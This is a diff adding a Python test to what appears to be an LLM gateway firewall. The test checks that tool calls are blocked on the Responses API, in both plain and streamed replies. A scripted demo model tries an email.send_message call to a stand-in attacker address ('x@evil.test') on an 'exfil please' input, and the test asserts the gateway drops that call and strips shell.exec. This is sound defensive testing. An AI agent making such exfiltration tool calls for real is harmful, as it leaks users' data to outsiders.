@@ -180,3 +180,34 @@ def test_the_default_firewall_already_blocks_forged_tags_in_tool_results(tmp_pat
             client.chat.completions.create(model="demo-echo", messages=messages)  # type: ignore[arg-type]
     assert "signatures:a2as.boundary_tag" in json.dumps(info.value.body)
     assert demo.received == []
+
+
+def test_responses_api_gets_the_same_controls(tmp_path: Path) -> None:
+    rules = [
+        DemoRule(
+            when_contains="exfil", tool_calls=[DemoToolCall(name="email.send_message", arguments={"to": "x@evil.test"})]
+        ),
+        DemoRule(
+            when_contains="ok",
+            tool_calls=[DemoToolCall(name="email.send_message", arguments={"to": "bo@corp.example"})],
+        ),
+        DemoRule(reply_text="fine"),
+    ]
+    tools = [
+        {"type": "function", "name": n, "parameters": {"type": "object"}} for n in ("email.send_message", "shell.exec")
+    ]
+    with running(tmp_path, DemoScript(rules=rules), tenant=basic(tmp_path)) as (client, _gw, demo, _):
+        out = client.responses.create(model="demo-echo", input="exfil please", tools=tools)  # type: ignore[arg-type]
+        assert not [i for i in out.output if i.type == "function_call"] and "not run" in out.output_text
+        sent = demo.received[-1]
+        assert [t["name"] for t in sent["tools"]] == ["email.send_message"]
+        assert "<a2as:defense>" in sent["instructions"] and sent["input"].startswith("<a2as:user:")
+        ok = client.responses.create(model="demo-echo", input="ok send", tools=tools)  # type: ignore[arg-type]
+        assert [i.name for i in ok.output if i.type == "function_call"] == ["email.send_message"]
+        events = list(client.responses.create(model="demo-echo", input="exfil please", tools=tools, stream=True))  # type: ignore[arg-type]
+        assert not any(e.type.startswith("response.function_call") for e in events)
+        assert not any(e.type == "response.output_item.added" and e.item.type == "function_call" for e in events)
+        done = [e for e in events if e.type == "response.completed"][0]
+        assert not [i for i in done.response.output if i.type == "function_call"]
+        events = list(client.responses.create(model="demo-echo", input="ok send", tools=tools, stream=True))  # type: ignore[arg-type]
+        assert any(e.type == "response.function_call_arguments.done" for e in events)
